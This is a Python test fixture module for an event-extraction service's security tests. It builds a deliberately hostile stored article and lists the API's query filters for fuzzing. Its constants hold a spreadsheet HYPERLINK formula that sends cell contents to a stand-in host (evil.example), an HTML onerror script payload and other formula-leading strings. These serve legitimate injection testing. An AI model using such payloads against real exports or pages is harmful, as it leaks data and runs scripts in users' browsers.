"""What the security tests share: a hostile stored article and servers over SQLite and PostgreSQL.

The hostile article's fields hold spreadsheet formulas and HTML: the test asserts that no
CSV cell starts a formula and that the map page shows every value as text.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

from eventwire.ingest import article_id
from eventwire.records import Actor, Article, Attribution, Event, Place, Result
from eventwire.store.repository import Store
from tests.serve.conftest import Text, serve_db

# Every query parameter of GET /api/events: the hostile-input tests send bad bytes in each.
FILTERS = (
    "bbox",
    "from",
    "to",
    "event_type",
    "sub_event_type",
    "actor",
    "country",
    "source",
    "modality",
    "min_fatalities",
    "q",
    "sort",
    "cursor",
    "limit",
    "format",
    "include_unrealized",
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HTML = '<img src="x" class="injected" onerror="window.__pwned=1">'
SHORT_HTML = '<b class="injected">B</b>'  # fits event_type (40 characters)
DATE_HTML = "<i>1</i>"  # fits event_date (10)
HOSTILE_TEXT = (
    f"{FORMULA} a attaqué le village de {HTML}Kidal le 3 mars 2024, tuant 4 civils, "
    "selon @Someone+1."
)


def hostile_result() -> Result:
    """One event whose every text field is a formula or HTML (a scraper's worst day)."""
    t = Text(HOSTILE_TEXT)
    actor = Actor(t.span(FORMULA), "@SUM(1+1)" + HTML, "armed_group", "ML")
    place = Place(t.span("Kidal"), 2455290, "+Kidal" + HTML, 18.44, 1.41, "ML", None, "PPLA", 0.9)
    trigger = t.span("a attaqué")
    event = Event(
        "Battles" + SHORT_HTML,
        "-Attack" + SHORT_HTML,
        trigger,
        t.sentence(trigger),
        actor1=actor,
        location=place,
        geo_precision=1,
        date=DATE_HTML,
        date_precision="day",
        fatalities=4,
        fatalities_evidence=t.span("4 civils"),
        attribution=(Attribution("@Someone+1", t.span("@Someone+1")),),
    )
    article = Article(
        article_id(HOSTILE_TEXT), HOSTILE_TEXT, "=1+1" + HTML, "fr", "2024-03-04", "-Wire" + HTML
    )
    return Result(article, (place,), (actor,), (event,), (), "test-fixture")


def fill(target: str | Path, results: tuple[Result, ...]) -> str | Path:
    with Store.open(target) as store:
        for result in results:
            store.save(result)
    return target


def serve(db: str | Path, **options: Any) -> Iterator[Any]:
    """A live uvicorn server over ``db`` on a free loopback port (``conftest.serve_db``)."""
    yield from serve_db(db, **options)
